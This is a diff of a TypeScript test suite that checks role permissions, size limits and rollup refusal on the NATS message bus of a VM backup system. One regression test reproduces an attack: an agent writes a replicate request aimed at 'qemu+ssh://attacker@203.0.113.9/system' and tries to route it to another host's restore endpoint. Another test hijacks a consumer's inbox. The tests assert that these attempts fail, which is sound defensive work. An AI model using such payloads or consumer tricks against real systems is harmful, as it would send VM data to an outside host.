@@ -5,6 +5,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { jetstream, jetstreamManager, AckPolicy } from "@nats-io/jetstream";
 import { Kvm } from "@nats-io/kv";
+import { headers } from "@nats-io/transport-node";
 import {
   agentConsumerName,
   buckets,
@@ -16,15 +17,22 @@ import {
   subjects,
   type BusRole,
 } from "@vmbs/contracts";
-import { authFileNames, createBusAuth, type GeneratedBusAuth } from "./auth-config.js";
+import { authFileNames, busRolesOf, createBusAuth, type GeneratedBusAuth } from "./auth-config.js";
 import { chainLeaseKey, createChainLeases } from "./chain-lease.js";
 import { connectBus, isPermissionViolation, splitNatsUrl, type NatsConnection } from "./connect-bus.js";
-import { consumeCommands } from "./consume-commands.js";
+import { consumeCommands, DurableMissingError, ensureDurable } from "./consume-commands.js";
+import { agentDurable, durablesOf, notifierDurable } from "./durables.js";
+import { openBucket, readBucket } from "./kv-buckets.js";
 import { startNatsServer, type RunningNatsServer } from "./nats-server.js";
 import { publishJson } from "./publish-json.js";
-import { ensureStreams, openHostsBucket } from "./topology.js";
+import { commandMaxBytes, ensureStreams, eventMaxMsgBytes, openHostsBucket, setUpBus } from "./topology.js";
 
 const rejectsWithPermission = (p: Promise<unknown>) => assert.rejects(p, (err) => isPermissionViolation(err));
+
+async function waitUntil(done: () => boolean, ms = 10_000): Promise<void> {
+  const deadline = Date.now() + ms;
+  while (!done() && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
+}
 
 /** Resolves with the error that ends a subscription (the server refuses it), or rejects after `ms`. */
 async function subscriptionError(nc: NatsConnection, subject: string, ms = 5_000): Promise<unknown> {
@@ -67,9 +75,9 @@ describe("bus roles on a real nats-server with the generated authorization confi
     await writeFile(configFile, auth.serverConfig);
     server = await startNatsServer({ storeDir: join(dir, "store"), configFile });
     operator = await as({ kind: "operator" });
-    await ensureStreams(operator);
     // The lease bucket's TTL is fixed by its creator: short, so a renewal happens within the test.
     await createChainLeases(operator, { holder: "setup", ttlMs: 3_000 });
+    await setUpBus(operator, { durables: durablesOf(busRolesOf({ hosts: ["hv1", "hv2", "hv3"] })) });
     [agent1, agent2, scheduler] = await Promise.all([as(hv1), as(hv2), as({ kind: "scheduler" })]);
   });
   after(async () => {
@@ -82,10 +90,14 @@ describe("bus roles on a real nats-server with the generated authorization confi
     await assert.rejects(connectBus(server.url, "anonymous"), /cannot connect/);
   });
 
-  it("lets an agent start-up check the streams without the right to change them", async () => {
-    assert.deepEqual(await ensureStreams(agent1), { created: [], updated: [], drifted: [] });
-    // A different config (as an older or newer version would have) is reported, not applied.
-    assert.deepEqual(await ensureStreams(agent1, { eventMaxAgeNs: 1_000_000_000 }), { created: [], updated: [], drifted: [streams.events] });
+  it("a role may neither inspect nor make streams and buckets: set-up (the operator) owns them", async () => {
+    assert.deepEqual(await ensureStreams(agent1), { created: [], updated: [], drifted: [], unchecked: [streams.commands, streams.events] });
+    assert.deepEqual(await ensureStreams(operator), { created: [], updated: [], drifted: [], unchecked: [] });
+    const jsm = await jetstreamManager(agent1);
+    // Stream info with subjects_filter would count every host's events.
+    await rejectsWithPermission(jsm.streams.info(streams.events, { subjects_filter: ">" }));
+    await rejectsWithPermission(jsm.streams.add({ name: "VMBS_MINE", subjects: ["vmbs.evt.backup.hv1.>"] }));
+    await rejectsWithPermission(jsm.streams.add({ name: "KV_vmbs_new", subjects: ["$KV.vmbs_new.>"] }));
   });
 
   it("host hv1's agent cannot delete, purge or update a stream", async () => {
@@ -145,7 +157,7 @@ describe("bus roles on a real nats-server with the generated authorization confi
     assert.equal((await hosts.get("hv1"))?.string(), JSON.stringify({ host: "hv1" }));
     await rejectsWithPermission(hosts.put("hv2", "{}"));
 
-    const state = await new Kvm(agent1).create(buckets.agentState, { history: 1 });
+    const { kv: state } = await openBucket(agent1, buckets.agentState);
     await state.put("hv1.boot", "b");
     await rejectsWithPermission(state.put("hv2.boot", "b"));
 
@@ -155,9 +167,8 @@ describe("bus roles on a real nats-server with the generated authorization confi
 
     // The scheduler sees the inventory and commands hv1; hv1 receives it through its own durable.
     const schedulerHosts = await openHostsBucket(scheduler);
-    const keys: string[] = [];
-    for await (const k of await schedulerHosts.keys()) keys.push(k);
-    assert.deepEqual(keys, ["hv1"]);
+    assert.deepEqual((await readBucket(scheduler, buckets.hosts)).map((e) => e.key), ["hv1"]);
+    await rejectsWithPermission(readBucket(agent1, buckets.hosts));
     await rejectsWithPermission(schedulerHosts.put("hv1", "{}"));
     const received: string[] = [];
     const consumer = await consumeCommands(agent1, {
@@ -178,7 +189,7 @@ describe("bus roles on a real nats-server with the generated authorization confi
     } finally {
       await consumer.stop();
     }
-    // A restarted agent finds its durable and updates it (info, then create-as-update with the same filter).
+    // A restarted agent binds to its durable as set-up made it (it may not change it).
     const again = await consumeCommands(agent1, { stream: streams.commands, durable: agentConsumerName("backup", "hv1"), filterSubject: subjects.cmd.backup("hv1"), ackWaitMs: 30_000, handler: async () => "ack" });
     await again.stop();
     // The scheduler may command backups, nothing else.
@@ -231,6 +242,126 @@ describe("bus roles on a real nats-server with the generated authorization confi
     assert.deepEqual(reply.json(), { sets: [] });
     endpoint.unsubscribe();
     assert.ok(isPermissionViolation(await subscriptionError(restore, `${subjects.svc.restore("hv2")}.>`)));
+  });
+
+  it("no role can have the server deliver its own writes to another host's restore endpoint (issue 14.1)", async () => {
+    const restore2 = await as({ kind: "restore", host: "hv2" });
+    const delivered: string[] = [];
+    const endpoint = restore2.subscribe(`${subjects.svc.restore("hv2")}.>`, { queue: "q" });
+    void (async () => {
+      for await (const m of endpoint) delivered.push(m.subject);
+    })();
+    await restore2.flush();
+    const push = { deliver_subject: subjects.svc.restoreEndpoint("hv2", "replicate"), deliver_group: "q", ack_policy: AckPolicy.None };
+    const hostsStream = `KV_${buckets.hosts}`;
+    // The reproduced walk-around: hv1's agent writes a replicate request to its own key, then points a push
+    // consumer filtered on that key at hv2's endpoint (named, ephemeral, or as its own command durable).
+    const hosts = await openHostsBucket(agent1);
+    await hosts.put("hv1", JSON.stringify({ domain: "db", as: "evil", to: "qemu+ssh://attacker@203.0.113.9/system", consent: true }));
+    const agentJsm = await jetstreamManager(agent1);
+    await rejectsWithPermission(agentJsm.consumers.add(hostsStream, { ...push, durable_name: "evil", filter_subject: `$KV.${buckets.hosts}.hv1` }));
+    await rejectsWithPermission(agentJsm.consumers.add(hostsStream, { ...push, filter_subject: `$KV.${buckets.hosts}.hv1` }));
+    await rejectsWithPermission(agentJsm.consumers.add(streams.commands, { ...push, durable_name: agentConsumerName("backup", "hv1"), filter_subject: subjects.cmd.backup("hv1") }));
+    // The mirror through a lease key of its root.
+    const mirror = await as({ kind: "mirror", host: "hv1" });
+    await rejectsWithPermission((await jetstreamManager(mirror)).consumers.add(`KV_${buckets.chainLeases}`, { ...push, filter_subject: `$KV.${buckets.chainLeases}.hv1.>` }));
+    // The notifier before its durable exists: it may not make it (as a push consumer or at all) and says why.
+    const notifier = await as({ kind: "notifier" });
+    const operatorJsm = await jetstreamManager(operator);
+    await operatorJsm.consumers.delete(streams.events, notifierConsumerName);
+    await rejectsWithPermission((await jetstreamManager(notifier)).consumers.add(streams.events, { ...push, durable_name: notifierConsumerName, filter_subject: subjects.eventsAll }));
+    await assert.rejects(consumeCommands(notifier, { ...notifierDurable, handler: async () => "ack" }), DurableMissingError);
+    await ensureDurable(operatorJsm, notifierDurable);
+    await hosts.put("hv1", JSON.stringify({ host: "hv1" }));
+    await restore2.flush();
+    await new Promise((r) => setTimeout(r, 500));
+    assert.deepEqual(delivered, [], "nothing reached hv2's restore endpoint");
+    endpoint.unsubscribe();
+  });
+
+  it("a consumer takes only messages of its own subject: one pushed into its inbox from a bucket is terminated unseen", async () => {
+    const durable = agentDurable("check", "hv1");
+    const seen: string[] = [];
+    const refused: string[] = [];
+    // Learn the inbox the agent's pull requests name (as anyone able to read the API subjects could), then aim a
+    // push consumer of a bucket at it: only the operator may make one, but the agent must not depend on that.
+    const sniff = operator.subscribe(`$JS.API.CONSUMER.MSG.NEXT.${durable.stream}.${durable.durable}`, { max: 1 });
+    const consumer = await consumeCommands(agent1, { ...durable, handler: async (m) => (seen.push(m.subject), "ack"), onError: (err) => refused.push((err as Error).message) });
+    const operatorJsm = await jetstreamManager(operator);
+    let pushed: string | undefined;
+    try {
+      let inbox = "";
+      for await (const m of sniff) inbox = m.reply ?? "";
+      assert.match(inbox, /^_INBOX\.agent-hv1\./);
+      await (await openHostsBucket(operator)).put("hv1", JSON.stringify({ domain: "web" }));
+      pushed = (await operatorJsm.consumers.add(`KV_${buckets.hosts}`, { deliver_subject: inbox, filter_subject: `$KV.${buckets.hosts}.hv1`, ack_policy: AckPolicy.None })).name;
+      await waitUntil(() => refused.length > 0);
+      assert.match(refused[0] ?? "", /refused a message on \$KV\.vmbs_hosts\.hv1/);
+      await publishJson(operator, subjects.cmd.check("hv1"), { domain: "web" }, "own-subject");
+      await waitUntil(() => seen.length > 0);
+      assert.deepEqual(seen, [subjects.cmd.check("hv1")], "the handler saw its own command and nothing else");
+    } finally {
+      if (pushed) await operatorJsm.consumers.delete(`KV_${buckets.hosts}`, pushed);
+      await consumer.stop();
+    }
+  });
+
+  it("a rollup header on one's own key is refused and every other host's keys stay (issue 14.4)", async () => {
+    const operatorHosts = await openHostsBucket(operator);
+    await operatorHosts.put("hv2", JSON.stringify({ host: "hv2" }));
+    for (const rollup of ["all", "sub"]) {
+      const h = headers();
+      h.set("Nats-Rollup", rollup);
+      await assert.rejects(jetstream(agent1).publish(`$KV.${buckets.hosts}.hv1`, "{}", { headers: h }), /rollup/i);
+      await assert.rejects(jetstream(operator).publish(subjects.evt.backup("hv3", "started"), "{}", { headers: h }), /rollup/i);
+    }
+    assert.equal((await operatorHosts.get("hv2"))?.string(), JSON.stringify({ host: "hv2" }));
+  });
+
+  it("streams and buckets are bounded: an oversized value, command or event and a command flood are refused, not stored (issue 14.7)", async () => {
+    const jsm = await jetstreamManager(operator);
+    for (const name of [streams.commands, streams.events, ...Object.values(buckets).map((b) => `KV_${b}`)]) {
+      const { config } = await jsm.streams.info(name);
+      assert.ok(config.max_bytes > 0 && config.max_msg_size > 0 && config.max_age > 0, `${name} has limits`);
+      assert.equal(config.allow_rollup_hdrs, false, `${name} refuses rollups`);
+    }
+    const hosts = await openHostsBucket(agent1);
+    await hosts.put("hv1", JSON.stringify({ host: "hv1" }));
+    await assert.rejects(hosts.put("hv1", "x".repeat(900 * 1024)), /maximum|size/i);
+    assert.equal((await hosts.get("hv1"))?.string(), JSON.stringify({ host: "hv1" }));
+    await assert.rejects(publishJson(operator, subjects.cmd.backup("hv3"), { domain: "x".repeat(commandMaxBytes) }), /maximum|size/i);
+    await assert.rejects(publishJson(agent1, subjects.evt.backup("hv1", "failed"), { reason: "x".repeat(eventMaxMsgBytes) }), /maximum|size/i);
+    // A flood beyond the queue's bound is refused (discard new); what was queued stays.
+    const before = (await jsm.streams.info(streams.commands)).state.messages;
+    await ensureStreams(operator, { commandMaxMsgs: before + 3 });
+    try {
+      for (let i = 0; i < 3; i++) await publishJson(operator, subjects.cmd.backup("hv3"), { domain: `d${i}` }, `flood-${i}`);
+      await assert.rejects(publishJson(operator, subjects.cmd.backup("hv3"), { domain: "d3" }, "flood-3"), /maximum messages/i);
+      assert.equal((await jsm.streams.info(streams.commands)).state.messages, before + 3);
+    } finally {
+      await jsm.streams.purge(streams.commands, { filter: subjects.cmd.backup("hv3") });
+      await ensureStreams(operator);
+    }
+  });
+
+  it("the local server's disk budget is set: JetStream refuses to reserve more than max_file_store", async () => {
+    const dir2 = await mkdtemp(join(tmpdir(), "vmbs-store-budget-"));
+    const small = await startNatsServer({ storeDir: join(dir2, "store"), configFile: join(dir, authFileNames.serverConfig), maxFileStoreBytes: 64 * 1024 * 1024 });
+    try {
+      const credential = auth.credentials.find((c) => c.id === "operator")!;
+      const nc = await connectBus(small.url, "budget", { nkeySeed: credential.seed, inboxPrefix: roleInboxPrefix({ kind: "operator" }) });
+      try {
+        const info = await (await jetstreamManager(nc)).getAccountInfo();
+        assert.equal(info.limits.max_storage, -1);
+        // The streams reserve 1.25 GiB: more than this server's 64 MiB, so set-up is refused rather than filling the disk.
+        await assert.rejects(ensureStreams(nc), /insufficient|resources|storage/i);
+      } finally {
+        await nc.close();
+      }
+    } finally {
+      await small.stop();
+      await rm(dir2, { recursive: true, force: true });
+    }
   });
 
   it("the operator can read everything and command any host", async () => {
